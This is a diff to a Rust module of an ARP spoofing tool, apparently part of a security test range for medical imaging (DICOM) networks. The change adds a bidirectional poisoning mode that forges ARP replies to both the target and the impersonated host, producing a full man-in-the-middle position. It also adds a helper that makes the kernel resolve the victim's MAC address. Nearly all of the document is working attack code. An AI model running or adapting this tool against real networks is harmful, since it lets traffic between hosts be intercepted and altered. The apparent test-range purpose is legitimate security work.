@@ -3,9 +3,14 @@
 //! puts the attacker on the path between the target and the host it impersonates (the
 //! unprotected-networks threat); on another segment the frames reach nobody.
 //!
+//! With `both_ways` it also tells `impersonate` that `target` is at our MAC (arpspoof's
+//! `-r`), so the answers come through the attacker too: a full man in the middle.
+//!
 //! The target's MAC address comes from `--target-mac`, else from the kernel's neighbour
-//! table (`/proc/net/arp`), else the frames are broadcast. Linux updates an *existing*
-//! neighbour entry from an unsolicited reply (it does not create one unless `arp_accept`).
+//! table (`/proc/net/arp`), else the frames are broadcast. The impersonated host's MAC (for
+//! `both_ways`) comes from the neighbour table, after one UDP datagram to its discard port
+//! makes the kernel resolve it if needed, else the frames are broadcast. Linux updates an *existing* neighbour entry from an
+//! unsolicited reply (it does not create one unless `arp_accept`).
 
 use crate::error::AgentError;
 use serde_json::{Value, json};
@@ -20,6 +25,8 @@ pub struct ArpOptions {
     pub target: Ipv4Addr,
     pub impersonate: Ipv4Addr,
     pub target_mac: Option<[u8; 6]>,
+    /// Poison the impersonated host's cache as well (the return path).
+    pub both_ways: bool,
     pub count: u32,
     pub interval: Duration,
 }
@@ -62,6 +69,29 @@ pub fn neighbour_mac(ip: Ipv4Addr, table: &str) -> Option<[u8; 6]> {
             .flatten()
             .filter(|m| m != &[0u8; 6])
     })
+}
+
+/// The MAC of `ip` from the neighbour table, resolving it first by sending one UDP datagram
+/// to its discard port (9) and waiting up to a second for the kernel's ARP exchange.
+fn resolve_mac(ip: Ipv4Addr) -> Option<[u8; 6]> {
+    let lookup = || {
+        std::fs::read_to_string("/proc/net/arp")
+            .ok()
+            .and_then(|t| neighbour_mac(ip, &t))
+    };
+    if let Some(m) = lookup() {
+        return Some(m);
+    }
+    let sock = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    let _ = sock.send_to(b"dicom-range arp resolve", (ip, 9));
+    let deadline = Instant::now() + Duration::from_secs(1);
+    while Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+        if let Some(m) = lookup() {
+            return Some(m);
+        }
+    }
+    None
 }
 
 /// An Ethernet frame carrying an ARP reply: "`sender_ip` is at `sender_mac`", to
@@ -125,22 +155,37 @@ pub fn spoof(o: &ArpOptions) -> Result<Value, (Value, AgentError)> {
             ));
         }
     };
-    let frame = arp_reply(ours, o.impersonate, dst, o.target);
-    let mut sent = 0u32;
+    let mut frames = vec![arp_reply(ours, o.impersonate, dst, o.target)];
+    v["both_ways"] = json!(o.both_ways);
+    if o.both_ways {
+        // Unresolved (not on this segment, say): broadcast, as for the target.
+        let (back, how) = match resolve_mac(o.impersonate) {
+            Some(m) => (m, "neighbour table"),
+            None => ([0xff; 6], "broadcast"),
+        };
+        v["impersonate_mac"] = json!(mac_string(&back));
+        v["impersonate_mac_from"] = json!(how);
+        frames.push(arp_reply(ours, o.target, back, o.impersonate));
+    }
+    // `sent` counts rounds (one reply to each poisoned host per round), `frames` the frames.
+    let (mut sent, mut frames_sent) = (0u32, 0u32);
     let count = o.count.clamp(1, MAX_COUNT);
     for i in 0..count {
         if i > 0 {
             std::thread::sleep(o.interval);
         }
-        match cap.sendpacket(frame.as_slice()) {
-            Ok(()) => sent += 1,
-            Err(e) => {
+        for frame in &frames {
+            if let Err(e) = cap.sendpacket(frame.as_slice()) {
                 v["sent"] = json!(sent);
+                v["frames"] = json!(frames_sent);
                 return Err((v, AgentError::other(format!("sendpacket failed: {e}"))));
             }
+            frames_sent += 1;
         }
+        sent += 1;
     }
     v["sent"] = json!(sent);
+    v["frames"] = json!(frames_sent);
     v["success"] = json!(sent == count);
     v["elapsed_ms"] = json!(start.elapsed().as_millis() as u64);
     Ok(v)
